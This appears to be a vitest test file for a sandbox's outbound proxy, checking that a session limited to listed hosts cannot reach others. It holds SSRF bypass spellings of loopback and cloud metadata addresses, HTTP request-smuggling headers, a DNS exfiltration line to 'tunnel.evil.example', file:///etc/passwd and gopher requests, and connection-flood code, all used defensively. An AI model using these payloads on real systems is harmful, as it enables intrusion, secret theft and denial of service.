/** The proxy of a session whose network is a list of hosts: every spelling of somewhere else. */

import { expect } from 'vitest';
import { everywhere, type Row } from './row.ts';
import type { World } from './world.ts';

const LISTED = 'A session with a list of hosts reaches only those hosts.';
const OWN = 'The proxy traffic of one session does not delay others.';

const LISTED_HOST = '127.0.0.3';

/** Made by the operator, who alone may; used by Mallory. */
const opened = new WeakMap<World, Promise<string>>();
async function listed(world: World): Promise<string> {
  const made =
    opened.get(world) ??
    world.admin.open({
      sandbox: { network: { allow: [`${LISTED_HOST}:9`, 'allowed.example'] } },
      shares: [{ user: 'mallory', right: 'use' }],
    });
  opened.set(world, made);
  return await made;
}

const SPEAK = `
import socket
def speak(text, more=b''):
    with socket.create_connection(('127.0.0.1', 3128), 10) as way:
        way.settimeout(10)
        way.sendall(text.encode('latin1') + more)
        said = b''
        try:
            while len(said) < 65536:
                part = way.recv(4096)
                if not part:
                    break
                said += part
                if b'\\r\\n\\r\\n' in said and b' 200 ' in said.split(b'\\r\\n')[0]:
                    way.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        except OSError:
            pass
        return said.decode('latin1')
`;

/** Python that gives all that it was told, as a list of texts. */
function row(name: string, code: (world: World) => string, promise = LISTED, options: Partial<Row> = {}): Row {
  return {
    name,
    promise,
    on: everywhere,
    ...options,
    attempt: async (world) => {
      const session = await listed(world);
      const answers = (await world.mallory.value(SPEAK + code(world), { session, timeoutMs: 90_000 })) as string[];
      for (const answer of answers) {
        // A tunnel or an answer from elsewhere is what it wanted.
        expect.soft(answer.split('\r\n')[0]).not.toMatch(/^HTTP\/1\.[01] 2/);
      }
    },
  };
}

const spellings = (port: number): string[] => [
  `127.0.0.1:${port}`,
  `localhost:${port}`,
  `LOCALHOST.:${port}`,
  `2130706433:${port}`,
  `0x7f000001:${port}`,
  `0177.0.0.1:${port}`,
  `127.1:${port}`,
  `127.0.1:${port}`,
  `[::1]:${port}`,
  `[::ffff:127.0.0.1]:${port}`,
  `[::ffff:7f00:1]:${port}`,
  `[0:0:0:0:0:ffff:7f00:0001]:${port}`,
  `[64:ff9b::7f00:1]:${port}`,
  `[::127.0.0.1]:${port}`,
  `[fe80::1%25lo]:${port}`,
  `0:${port}`,
  `0.0.0.0:${port}`,
  `[::]:${port}`,
  `127.0.0.3.:${port}`,
  `127.0.0.1%00.allowed.example:${port}`,
  `allowed.example@127.0.0.1:${port}`,
  `127.0.0.1#@allowed.example:${port}`,
  `①②⑦.0.0.1:${port}`,
  `127。0。0。1:${port}`,
  `169.254.169.254:80`,
  `[fd00:ec2::254]:80`,
  `metadata.google.internal:80`,
  `100.64.0.1:80`,
  `allowed.example.evil.example:443`,
  `xn--80ak6aa92e.com:443`,
];

const latin = (texts: readonly string[]): string =>
  JSON.stringify(texts.map((text) => Buffer.from(text).toString('latin1')));

export const proxyRows: readonly Row[] = [
  row(
    'opens tunnels to the host’s loopback, in 30 spellings',
    ({ loopbackPort }) =>
      `[speak('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (to, to)) for to in ${latin(spellings(loopbackPort))}]`,
    LISTED,
    { quick: true },
  ),
  row(
    'requests pages of the host’s loopback, in 30 spellings',
    ({ loopbackPort }) =>
      `[speak('GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (to, to)) for to in ${latin(spellings(loopbackPort))}]`,
  ),
  row(
    'names one host in the request line and another in the header',
    ({ loopbackPort }) => `
pairs = [('http://${LISTED_HOST}:9/', '127.0.0.1:${loopbackPort}'), ('http://127.0.0.1:${loopbackPort}/', '${LISTED_HOST}:9'), ('/', '127.0.0.1:${loopbackPort}'), ('http://allowed.example@127.0.0.1:${loopbackPort}/', 'allowed.example')]
[speak('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % pair) for pair in pairs]`,
  ),
  row(
    'hides a second request to another host behind the first',
    ({ loopbackPort }) => `
second = 'GET http://127.0.0.1:${loopbackPort}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${loopbackPort}\\r\\n\\r\\n'
heads = ['Content-Length: 4\\r\\nContent-Length: 0', 'Content-Length: 4\\r\\nTransfer-Encoding: chunked', 'Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity', 'Content-Length: +0', 'Content-Length : 0']
[speak('POST http://${LISTED_HOST}:9/ HTTP/1.1\\r\\nHost: ${LISTED_HOST}:9\\r\\n%s\\r\\n\\r\\n0\\r\\n\\r\\n%s' % (head, second)) for head in heads]`,
  ),
  row(
    'requests an upgrade to another protocol',
    ({ loopbackPort }) => `
[speak('GET http://127.0.0.1:${loopbackPort}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${loopbackPort}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n'),
 speak('OPTIONS * HTTP/1.1\\r\\nHost: 127.0.0.1:${loopbackPort}\\r\\n\\r\\n'), speak('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')]`,
  ),
  row(
    'leaks a secret through DNS lookups',
    () => `
import time
began = time.monotonic()
answers = [speak('CONNECT %s.tunnel.evil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % ('s3cr3t%d' % n)) for n in range(20)]
answers + ['looked up' for answer in answers if 'not_listed' not in answer and '400' not in answer.split('\\r\\n')[0]]`,
  ),
  row(
    'sends invalid requests',
    () => `
import os
[speak(text) for text in ('\\r\\n' * 1000, 'CONNECT', 'CONNECT \\r\\n\\r\\n', 'CONNECT x:99999 HTTP/1.1\\r\\n\\r\\n', 'CONNECT x:-1 HTTP/1.1\\r\\n\\r\\n', 'CONNECT [::1 HTTP/1.1\\r\\n\\r\\n', 'GET http:// HTTP/1.1\\r\\n\\r\\n', 'GET http://[/ HTTP/1.1\\r\\n\\r\\n',
                            'GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'GET gopher://127.0.0.1:25/x HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', '\\x05\\x01\\x00', '\\x04\\x01\\x00\\x50\\x7f\\x00\\x00\\x01\\x00', 'CONNECT ' + 'a' * 100_000 + ' HTTP/1.1\\r\\n\\r\\n')]`,
  ),
  row(
    'sends endless headers, slowly and at once',
    () => `
held = []
for _ in range(100):
    way = socket.create_connection(('127.0.0.1', 3128), 5)
    way.sendall(b'GET http://${LISTED_HOST}:9/ HTTP/1.1\\r\\nX: ')
    held.append(way)
answers = [speak('GET http://${LISTED_HOST}:9/ HTTP/1.1\\r\\n' + 'x: y\\r\\n' * 100_000)]
for way in held:
    way.close()
answers`,
    OWN,
  ),
  row(
    'opens as many connections as possible, and leaves them half closed',
    () => `
held = []
try:
    for _ in range(1000):
        way = socket.create_connection(('127.0.0.1', 3128), 5)
        way.shutdown(socket.SHUT_WR)
        held.append(way)
except OSError:
    pass
for way in held:
    way.close()
[]`,
    OWN,
  ),
];
